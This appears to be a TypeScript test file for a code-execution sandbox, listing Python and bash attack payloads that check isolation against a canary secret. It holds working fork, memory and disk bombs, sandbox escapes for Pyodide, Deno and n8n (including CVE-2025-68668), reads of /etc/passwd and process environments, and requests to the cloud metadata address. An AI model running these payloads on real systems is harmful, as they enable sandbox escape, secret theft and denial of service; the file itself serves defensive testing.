import type { Attack } from './attack.js';

const PYTHON = 'python';

/** Runs attempts, and prints what each has reached. */
function attempts(...lines: readonly string[]): string {
  const list = lines.map((line) => `    lambda: ${line},`).join('\n');
  return `import os, sys\nfor attempt in [\n${list}\n]:\n    try:\n        got = attempt()\n        if got is not None: print('BREACH', got)\n    except BaseException as error:\n        pass\n`;
}

/** The global object of the JavaScript below Pyodide, as code can get it. */
const REALM = `
try:
    import js
    realm = js.Object.constructor('return globalThis')()
except BaseException:
    realm = None
`;

const bombs: readonly [string, string][] = [
  ['an endless loop', 'while True: pass'],
  ['a memory bomb on the heap', 'kept = []\nwhile True: kept.append([str(len(kept))] * 100)'],
  [
    'a memory bomb off the heap',
    `${REALM}kept = []\nwhile True: kept.append(realm.eval('new Uint8Array(5e7).fill(1)') if realm else bytearray(50_000_000))`,
  ],
  [
    'a deep recursion',
    'import sys\nsys.setrecursionlimit(10**9)\ndef deep(n): return deep(n + 1) + 1\ndeep(0)',
  ],
  ['a native call that does not yield', '2 ** 10_000_000_000_000'],
  [
    'a native call of JavaScript that does not yield',
    `${REALM}realm.eval('for (;;);') if realm else sum(iter(int, 1))`,
  ],
  ['a regular expression that backtracks', "import re\nre.match('(a+)+$', 'a' * 60 + 'b')"],
  [
    'a bomb of a decompressor',
    'import zlib\nkept = []\npacked = zlib.compress(bytes(10**7))\nwhile True: kept.append(zlib.decompress(packed))',
  ],
  [
    'code that catches its end',
    'while True:\n    try:\n        while True: pass\n    except BaseException: pass',
  ],
  ['a fork bomb', 'import os\nwhile True:\n    try: os.fork()\n    except OSError: pass'],
  [
    'threads without end',
    'import threading, time\nwhile True:\n    try: threading.Thread(target=time.sleep, args=(60,)).start()\n    except RuntimeError: pass',
  ],
  [
    'a process that stops the first one of its namespace',
    'import ctypes\nctypes.CDLL(None).ptrace(16, 1, 0, 0)\nwhile True: pass',
  ],
  ['shared memory', 'import mmap\nkept = mmap.mmap(-1, 2 * 10**9)\nkept[:] = b"x" * len(kept)'],
  ['files without end', "n = 0\nwhile True:\n    n += 1\n    open(f'f{n}', 'wb').write(bytes(10**6))"],
];

/** Ways out of Python in n8n, Pyodide and their like, each as it was published. */
const escapes: readonly [string, string][] = [
  [
    'the module js (CVE-2025-68668, n8n)',
    `import js\n${attempts('str(js.process.pid)', 'js.process.env.PATH', "js.require('child_process').execSync('id')", "js.eval('process.env.PATH')")}`,
  ],
  [
    'the global object of JavaScript',
    `${REALM}${attempts("realm.process.mainModule.require('fs').readFileSync('/etc/passwd')", "realm.require('fs').readFileSync('/etc/passwd')", 'realm.process.env.ADORN_CHAOS_SECRET', "realm.process.binding('fs').open('/etc/passwd', 0, 0)", "realm.process.getBuiltinModule('fs').readFileSync('/etc/passwd')")}`,
  ],
  [
    'a subprocess of Deno',
    `${REALM}${attempts("realm.Deno.Command.new('/usr/bin/env').outputSync().stdout", 'realm.Deno.run(js.JSON.parse(\'{"cmd": ["env"]}\'))')}`,
  ],
  [
    'a module of Node.js in Deno',
    `${REALM}import asyncio\n${attempts('asyncio.run(realm.eval(\'import("node:child_process").then((m) => String(m.execSync("env")))\'))', 'asyncio.run(realm.eval(\'import("node:fs").then((m) => String(m.readFileSync("/etc/passwd")))\'))')}`,
  ],
  [
    'a worker with permissions of its own',
    `${REALM}import asyncio\n${attempts('realm.eval(\'new Worker(URL.createObjectURL(new Blob([""])), { type: "module", deno: { permissions: { read: true } } })\')')}`,
  ],
  [
    'a permission that is asked for again',
    `${REALM}import asyncio\n${attempts("{'granted': 'yes'}.get(asyncio.run(realm.Deno.permissions.request(js.JSON.parse('{\"name\": \"read\"}'))).state)", "{'granted': 'yes'}.get(realm.Deno.permissions.requestSync(js.JSON.parse('{\"name\": \"net\"}')).state)")}`,
  ],
  [
    'a script of Emscripten (Pyodide, ctypes)',
    "import ctypes\ntry:\n    run = ctypes.CDLL(None).emscripten_run_script_string\n    run.restype = ctypes.c_char_p\n    got = run(b'typeof process === \"object\" ? String(process.env.PATH) : \"\"')\n    if got and b'/' in got: print('BREACH', got)\nexcept BaseException: pass",
  ],
  [
    'the inner module of Pyodide',
    attempts(
      "__import__('pyodide_js')._module.ENV.ADORN_CHAOS_SECRET",
      "__import__('_pyodide_core').run_js('process.env.PATH')",
      "__import__('pyodide.code').code.run_js('process.env.PATH')",
    ),
  ],
  [
    'a package from the network (Pyodide, micropip)',
    `import asyncio\n${attempts("asyncio.run(__import__('micropip').install('https://files.example/x.whl')) or 'installed'", "__import__('pyodide.http').http.open_url('http://127.0.0.1:1/')")}`,
  ],
  [
    'a file system of the host mounted (Pyodide, NODEFS)',
    attempts(
      "__import__('pyodide_js').mountNodeFS('/mnt', '/etc') or open('/mnt/passwd').read()",
      "__import__('pyodide_js')._module.FS.mount(__import__('pyodide_js')._module.FS.filesystems.NODEFS, {'root': '/etc'}, '/mnt') and open('/mnt/passwd').read()",
    ),
  ],
  [
    'the classes of everything (n8n, Python)',
    attempts(
      "[c for c in ().__class__.__base__.__subclasses__() if c.__name__ == 'Popen'][0]('env', stdout=-1).communicate()[0].decode().split('ADORN_CHAOS_SECRET=')[1]",
    ),
  ],
  [
    'the frames of an exception (n8n, Python)',
    "try: 1 / 0\nexcept Exception as error:\n    frame = error.__traceback__.tb_frame\n    while frame:\n        if 'ADORN_CHAOS_SECRET' in str(frame.f_globals.get('os', '')): print('BREACH')\n        frame = frame.f_back",
  ],
];

export const PYTHON_ATTACKS: readonly Attack[] = [
  ...bombs.map(([name, code]): Attack => ({ name, language: PYTHON, code: () => code, isBomb: true })),
  {
    name: 'an output of 100 MB',
    language: PYTHON,
    code: () => "for _ in range(100): print('x' * 10**6)",
  },
  {
    name: 'an output of 100 MB past Python',
    language: PYTHON,
    code: () =>
      `${REALM}if realm: realm.eval('{ const piece = new Uint8Array(1e6).fill(65); for (let i = 0; i < 100; i++) Deno.stdout.writeSync(piece); }')`,
  },
  {
    name: 'a forged message to the host',
    language: PYTHON,
    code: () =>
      `${REALM}if realm: realm.eval('for (const text of [null, 7, [], { kind: "done", exitCode: 0, files: [{ name: "../x", data: 7 }], droppedFiles: 0 }, { kind: "ready" }]) Deno.stdout.writeSync(new TextEncoder().encode(JSON.stringify(text) + "\\\\n"))')`,
  },
  {
    name: 'a file of the host',
    language: PYTHON,
    code: ({ file }) =>
      REALM +
      attempts(`open('${file}').read()`, `realm.Deno.readTextFileSync('${file}')`, `os.listdir('/root')[0]`),
    hasControl: true,
  },
  {
    name: 'a file written on the host',
    language: PYTHON,
    code: ({ trace }) =>
      REALM +
      attempts(`realm.Deno.writeTextFileSync('${trace}', 'x')`, `open('${trace}', 'w').write('x') and None`),
    hasControl: true,
  },
  {
    name: 'the environment',
    language: PYTHON,
    code: () =>
      REALM +
      attempts(
        "os.environ['ADORN_CHAOS_SECRET']",
        "open('/proc/self/environ').read().split('ADORN_CHAOS_SECRET=')[1]",
        "open('/proc/1/environ').read().split('ADORN_CHAOS_SECRET=')[1]",
        "realm.Deno.env.get('ADORN_CHAOS_SECRET')",
      ),
    hasControl: true,
  },
  {
    name: 'a socket to the loopback and the metadata address',
    language: PYTHON,
    code: ({ port }) =>
      `${REALM}import asyncio, socket\n${attempts(
        `asyncio.run(realm.fetch('http://127.0.0.1:${String(port)}/'))`,
        `asyncio.run(realm.Deno.connect(js.JSON.parse('{"hostname": "127.0.0.1", "port": ${String(port)}}')))`,
        `socket.create_connection(('127.0.0.1', ${String(port)}), 1)`,
        `__import__('urllib.request').request.urlopen('http://127.0.0.1:${String(port)}/', timeout=2)`,
        `realm and asyncio.run(realm.fetch('http://169.254.169.254/'))`,
      )}`,
    hasControl: true,
  },
  ...escapes.map(([name, code]): Attack => ({ name, language: PYTHON, code: () => code })),
];

/** Abuse of the kernel, for sandboxes that are processes. */
export const BASH_ATTACKS: readonly Attack[] = (
  [
    ['a fork bomb', 'f() { f | f & }; f; sleep 1; while :; do :; done', true],
    [
      'processes that outlive their parent',
      'setsid sleep 987 & setsid sleep 987 & disown; while :; do :; done',
      true,
    ],
    ['a disk bomb', 'dd if=/dev/zero of=big bs=1M count=500 2>/dev/null || exit 9', true],
    ['a bomb in /dev/shm', 'dd if=/dev/zero of=/dev/shm/big bs=1M count=500 2>/dev/null || exit 9', true],
    ['an output of 100 MB', 'yes xxxxxxxxxxxxxxxxxxxxx', true],
    ['a new user namespace', 'unshare -Ur id && echo BREACH; true', false],
    ['becoming another user', 'id -u | grep -qx 65534 || echo BREACH; su -c id && echo BREACH; true', false],
    ['mounting', 'mount -t tmpfs none /mnt && echo BREACH; true', false],
    ['writing to the programs', 'touch /usr/bin/x && echo BREACH; true', false],
    [
      'other processes',
      'for p in /proc/[0-9]*; do tr "\\0" "\\n" < $p/environ; done 2>/dev/null | grep ADORN_CHAOS_SECRET && echo BREACH; true',
      false,
    ],
    ['a signal to all processes', 'kill -9 -1; while :; do :; done', true],
  ] as const
).map(([name, code, isBomb]): Attack => ({ name, language: 'bash', code: () => code, isBomb }));
